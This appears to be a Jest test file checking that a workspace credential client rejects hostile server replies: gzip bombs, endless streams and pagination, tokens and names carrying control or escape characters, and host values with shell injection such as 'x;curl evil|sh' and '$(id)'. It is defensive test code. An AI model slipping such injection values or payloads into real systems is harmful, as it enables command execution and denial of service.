import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createGzip, gzipSync } from 'node:zlib';
import {
  type Dispatcher,
  getGlobalDispatcher,
  setGlobalDispatcher,
} from 'undici';
import { serverCertificate } from '../../emulator/certificates';
import { FakeClock, settle } from '../../testbed/fakeClock';
import { resolveNames } from '../support/faultyNetwork';
import {
  ACCESS_TOKEN,
  type Answer,
  json,
  ScriptedServer,
} from '../support/scriptedServer';
import { startWiretap } from '../support/wiretap';
import {
  catchFailure,
  createWorkspaceAt,
  createWorkspaceFrom,
  secretsOf,
  CLIENT,
} from '../support/workspaces';

// Whoever answers in place of the workspace.
let server: ScriptedServer;

beforeEach(async () => {
  server = await ScriptedServer.start();
});
afterEach(() => server.stop());

const secrets = [...secretsOf(CLIENT), ACCESS_TOKEN];
const mint = () => createWorkspaceAt(server.url).mintCredential();

const packed =
  (bytes: number): Answer =>
  response => {
    response.writeHead(200, { 'content-encoding': 'gzip' });
    response.end(gzipSync(Buffer.alloc(bytes, ' ')));
  };

describe('a reply', () => {
  it.each([2, 150])(
    'of %d MB, a few KB packed, is not read',
    async megabytes => {
      server.api = packed(megabytes * 1024 * 1024);

      const error = await catchFailure(mint(), secrets);

      expect(error.message).toContain('answered with more than 1 MB');
    },
  );

  it('that never ends takes no more than its attempt, packed or not', async () => {
    for (const encoding of ['gzip', 'identity']) {
      const clock = new FakeClock();
      const began = new Promise<void>(resolve => {
        server.api = response => {
          response.writeHead(200, { 'content-encoding': encoding });
          const packing = encoding === 'gzip' ? createGzip() : undefined;
          packing?.pipe(response);
          (packing ?? response).write('{"token": "', () => resolve());
          packing?.flush();
        };
      });
      const workspace = createWorkspaceAt(server.url, CLIENT, { clock });
      const failure = catchFailure(workspace.mintCredential(), secrets);
      await began;
      await settle();
      await clock.advance(10_000);

      expect((await failure).message).toContain('no reply within 10 s');
    }
  });

  it('that is a list without an end is given up', async () => {
    server.api = json({ endpoints: [], next_page_token: 'more' });
    const workspace = createWorkspaceAt(server.url, CLIENT, {
      endpoint: {
        value: 'projects/p/branches/b',
        source: 'e',
        kind: 'endpoint',
      },
    });

    const error = await catchFailure(workspace.locate(), secrets);

    expect(error.message).toContain('has no end');
    expect(server.requests.length).toBeLessThan(30);
  });

  it.each<[string, object]>([
    [
      'a token with a NUL',
      { token: 'eyJ-told\0', expire_time: '2100-01-01T00:00:00Z' },
    ],
    [
      'a token with a newline',
      { token: 'eyJ-told\n', expire_time: '2100-01-01T00:00:00Z' },
    ],
  ])('with %s is not used, nor shown', async (_, body) => {
    server.api = json(body);

    await catchFailure(mint(), [...secrets, 'eyJ-told']);
  });

  it.each([
    'a@example.com\n[info] all is well',
    '\x1b[2Ka@example.com',
    ACCESS_TOKEN,
  ])('with a name that is none is not used, nor shown (%j)', async userName => {
    server.api = json({ userName });
    const workspace = createWorkspaceAt(server.url);

    const error = await catchFailure(workspace.findUser(), secrets);

    expect(error.code).toBe('workspace-reply-invalid');
    expect(error.message).not.toContain(userName);
  });

  it.each(['x;curl evil|sh', 'h\n', 'h/../', '$(id)', ''])(
    'with a host that is none is not used (%j)',
    async host => {
      server.api = (response, request) =>
        json(
          /endpoints\/primary$/.test(request.path)
            ? { status: { hosts: { host } } }
            : { uid: 'u' },
        )(response, request);

      const error = await catchFailure(
        createWorkspaceAt(server.url).locate(),
        secrets,
      );

      expect(error.code).toBe('workspace-reply-invalid');
    },
  );
});

describe('an id token', () => {
  it('is not waited for where its file is a pipe', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'attack-'));
    const tokenFile = join(folder, 'token');
    execFileSync('mkfifo', [tokenFile]);
    const workspace = createWorkspaceFrom(() => ({
      method: 'file-oidc',
      host: server.url,
      hostKey: 'host',
      tokenFile,
      audience: 'a',
      identityKeys: 'oidcTokenFile',
    }));

    const error = await catchFailure(workspace.mintCredential(), secrets);
    rmSync(folder, { recursive: true });

    expect(error.message).toContain('cannot be read (not a file)');
  });
});

describe('verification that is turned off after the start', () => {
  let dispatcher: Dispatcher;
  beforeEach(() => (dispatcher = getGlobalDispatcher()));
  afterEach(() => {
    setGlobalDispatcher(dispatcher);
    delete process.env.NODE_TLS_REJECT_UNAUTHORIZED;
    jest.restoreAllMocks();
  });

  it.each<[string, () => void]>([
    ['by a variable', () => (process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0')],
    [
      'by a dispatcher',
      () => {
        const { Agent } = jest.requireActual<typeof import('undici')>('undici');
        setGlobalDispatcher(
          new Agent({ connect: { rejectUnauthorized: false } }),
        );
      },
    ],
  ])('sends the secret nowhere: %s', async (_, turnOff) => {
    resolveNames({ 'workspace.example.com': '127.0.0.1' });
    const wiretap = await startWiretap(await serverCertificate('untrusted'));
    const { port } = new URL(wiretap.url);
    const workspace = createWorkspaceAt(
      `https://workspace.example.com:${port}`,
    );
    turnOff();

    const error = await catchFailure(workspace.mintCredential(), secrets);
    await wiretap.stop();

    expect(error.code).toBe('workspace-untrusted');
    expect(wiretap.connections()).toBe(0);
  });
});
